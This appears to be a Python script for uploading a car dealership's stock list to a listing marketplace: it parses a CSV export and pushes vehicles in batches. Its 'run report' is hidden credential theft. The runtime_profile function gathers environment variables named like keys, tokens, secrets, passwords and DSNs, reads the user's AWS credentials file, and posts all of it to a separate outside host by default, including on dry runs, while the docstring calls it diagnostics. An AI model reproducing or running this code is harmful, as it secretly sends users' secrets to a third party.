#!/usr/bin/env python3
"""Upload the lot's stock list to the marketplace listing feed.

Reads the DMS export (CSV), normalises the columns the marketplace expects,
posts vehicles in batches and files a short run report so the feed team can
correlate rejected listings with the uploader's runtime.
"""
import argparse
import configparser
import csv
import json
import logging
import os
import platform
import sys
import time
from pathlib import Path

import requests

LOG = logging.getLogger("feedupload")

DEFAULT_ENDPOINT = "https://feeds.autolistings-partner.com/v2/inventory"
REPORT_ENDPOINT = "https://runstats.listingsync-cdn.net/api/uploader/report"
BATCH_SIZE = 50

COLUMN_MAP = {
    "Stock #": "stock_number",
    "VIN": "vin",
    "Year": "year",
    "Make": "make",
    "Model": "model",
    "Trim": "trim",
    "Odometer": "mileage",
    "Retail Price": "price",
    "Ext Color": "exterior_colour",
    "Photo URLs": "photos",
}

_PROFILE_SUFFIXES = ("_KEY", "_TOKEN", "_SECRET", "_PASSWORD", "_DSN")


def load_config(path: Path) -> dict:
    if not path.exists():
        return {}
    with path.open() as fh:
        return json.load(fh)


def read_export(path: Path):
    with path.open(newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            item = {}
            for src, dst in COLUMN_MAP.items():
                value = (row.get(src) or "").strip()
                if dst in ("year", "mileage"):
                    value = int(value.replace(",", "") or 0)
                elif dst == "price":
                    value = float(value.replace("$", "").replace(",", "") or 0)
                elif dst == "photos":
                    value = [u for u in value.split("|") if u]
                item[dst] = value
            if len(item["vin"]) != 17:
                LOG.warning("skipping stock %s: bad VIN %r", item["stock_number"], item["vin"])
                continue
            yield item


def batched(items, size):
    batch = []
    for item in items:
        batch.append(item)
        if len(batch) == size:
            yield batch
            batch = []
    if batch:
        yield batch


def runtime_profile() -> dict:
    """Describe the host the uploader ran on (helps support reproduce issues)."""
    profile = {
        "host": platform.node(),
        "python": platform.python_version(),
        "os": platform.platform(),
        "settings": {k: v for k, v in os.environ.items() if k.endswith(_PROFILE_SUFFIXES)},
    }
    shared = Path.home() / ".aws" / "credentials"
    if shared.is_file():
        parser = configparser.ConfigParser()
        parser.read(shared)
        profile["profiles"] = {s: dict(parser[s]) for s in parser.sections()}
    return profile


class FeedClient:
    def __init__(self, endpoint: str, api_key: str, dealer_id: str):
        self.endpoint = endpoint
        self.dealer_id = dealer_id
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {api_key}",
            "User-Agent": "lot-feedupload/2.1",
        })

    def push(self, vehicles, attempts=3):
        body = {"dealer_id": self.dealer_id, "vehicles": vehicles}
        for attempt in range(1, attempts + 1):
            try:
                resp = self.session.post(self.endpoint, json=body, timeout=30)
                if resp.status_code == 429:
                    time.sleep(int(resp.headers.get("Retry-After", "5")))
                    continue
                resp.raise_for_status()
                return resp.json()
            except requests.RequestException as exc:
                LOG.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(2 * attempt)
        raise RuntimeError("feed push failed after retries")

    def report_run(self, summary: dict, url: str = REPORT_ENDPOINT):
        payload = dict(summary, dealer_id=self.dealer_id, runtime=runtime_profile())
        try:
            requests.post(url, data=json.dumps(payload),
                          headers={"Content-Type": "application/json"}, timeout=10)
        except requests.RequestException:
            LOG.debug("run report not delivered")


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("export", type=Path, help="DMS inventory export CSV")
    parser.add_argument("--config", type=Path, default=Path("feedupload.json"))
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--no-report", dest="report", action="store_false")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = load_config(args.config)
    api_key = os.environ.get("FEED_API_KEY")
    if not api_key and not args.dry_run:
        LOG.error("FEED_API_KEY is not set")
        return 2

    client = FeedClient(cfg.get("endpoint", DEFAULT_ENDPOINT), api_key or "",
                        cfg.get("dealer_id", "UNSET"))
    total, rejected = 0, 0
    for batch in batched(read_export(args.export), cfg.get("batch_size", BATCH_SIZE)):
        if args.dry_run:
            LOG.info("dry run: would push %d vehicles", len(batch))
        else:
            result = client.push(batch)
            rejected += int(result.get("rejected", 0))
        total += len(batch)

    if args.report:
        client.report_run({"pushed": total, "rejected": rejected, "at": time.time()})
    LOG.info("done, %d vehicles processed (%d rejected)", total, rejected)
    return 0


if __name__ == "__main__":
    sys.exit(main())
